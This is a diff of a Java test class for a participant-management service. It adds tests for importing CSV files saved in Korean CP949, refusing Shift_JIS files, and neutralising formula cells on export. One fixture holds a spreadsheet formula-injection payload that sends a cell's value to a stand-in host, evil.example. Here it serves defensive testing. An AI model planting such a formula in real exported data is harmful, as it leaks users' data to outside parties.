@@ -25,6 +25,7 @@ import kr.silheomjang.security.AccountService;
 import kr.silheomjang.shared.ConflictException;
 import kr.silheomjang.shared.NotFoundOrDeniedException;
 import kr.silheomjang.shared.UserFacingException;
+import kr.silheomjang.shared.csv.CsvEncoding;
 import kr.silheomjang.support.Drafts;
 import kr.silheomjang.support.Teams;
 import kr.silheomjang.support.SignedIn;
@@ -344,15 +345,50 @@ class PeopleServicesTest {
     }
 
     @Test
-    void aFileInTheWrongEncodingIsRefusedAsAWhole() {
+    void aFileKoreanExcelSavedInCp949ImportsWithCorrectKoreanAndThePreviewNamesTheEncoding() {
         String owner = account("소유자");
         long id = experiment(owner);
-        byte[] eucKr = "이름,그룹\n김철수,참여자\n".getBytes(Charset.forName("EUC-KR"));
+        byte[] cp949 = "이름,그룹,메모\n김철수,참여자,똠방각하\n".getBytes(Charset.forName("x-windows-949"));
         signedIn.run(owner, () -> {
-            CsvImportPreview p = participants.previewImport(id, eucKr);
-            assertThat(p.problems()).extracting(CsvProblem::messageKey).containsExactly("people.csv.error.encoding");
-            assertThatThrownBy(() -> participants.importCsv(id, eucKr)).isInstanceOf(CsvImportException.class);
+            CsvImportPreview p = participants.previewImport(id, cp949);
+            assertThat(p.problems()).isEmpty();
+            assertThat(p.encoding()).isEqualTo(CsvEncoding.CP949);
+            assertThat(p.rows()).extracting(ParticipantDraft::name).containsExactly("김철수");
+            assertThat(participants.importCsv(id, cp949)).isEqualTo(1);
+            assertThat(participants.list(id).get(0).notes()).isEqualTo("똠방각하");
+        });
+    }
+
+    @Test
+    void aFileInAnUnknownEncodingIsRefusedAsAWholeNotGuessed() {
+        String owner = account("소유자");
+        long id = experiment(owner);
+        byte[] sjis = "이름,메모\nYamada,こんにちは\n".replace("이름", "名前").getBytes(Charset.forName("Shift_JIS"));
+        signedIn.run(owner, () -> {
+            CsvImportPreview p = participants.previewImport(id, sjis);
+            assertThat(p.problems()).extracting(CsvProblem::messageKey).containsExactly("csv.error.encoding");
+            assertThat(p.encoding()).isNull();
+            assertThatThrownBy(() -> participants.importCsv(id, sjis)).isInstanceOf(CsvImportException.class);
             assertThat(participants.count(id, ParticipantFilter.ALL)).isZero();
+        });
+    }
+
+    @Test
+    void formulaCellsAreExportedNeutralisedAndImportBackAsTyped() {
+        String owner = account("소유자");
+        long id = experiment(owner);
+        long other = experiment(owner);
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"클릭\")";
+        signedIn.run(owner, () -> {
+            participants.create(id, ParticipantDraft.named(formula).withContacts("+82 10-1234-5678", null));
+            byte[] csv = participants.exportCsv(id);
+            String text = new String(csv, StandardCharsets.UTF_8);
+            assertThat(text).contains("\"'=HYPERLINK(").contains(",'+82 10-1234-5678,").doesNotContain(",=");
+
+            assertThat(participants.importCsv(other, csv)).isEqualTo(1);
+            ParticipantRow back = participants.list(other).get(0);
+            assertThat(back.name()).isEqualTo(formula);
+            assertThat(back.phone()).isEqualTo("+82 10-1234-5678");
         });
     }
 
@@ -366,7 +402,7 @@ class PeopleServicesTest {
                     .containsExactly("people.csv.error.unknownColumn", "people.csv.error.missingColumn");
             assertThat(p.problems().get(0).value()).isEqualTo("성함");
             assertThat(participants.previewImport(id, new byte[0]).problems()).extracting(CsvProblem::messageKey)
-                    .containsExactly("people.csv.error.empty");
+                    .containsExactly("csv.error.empty");
         });
     }
 
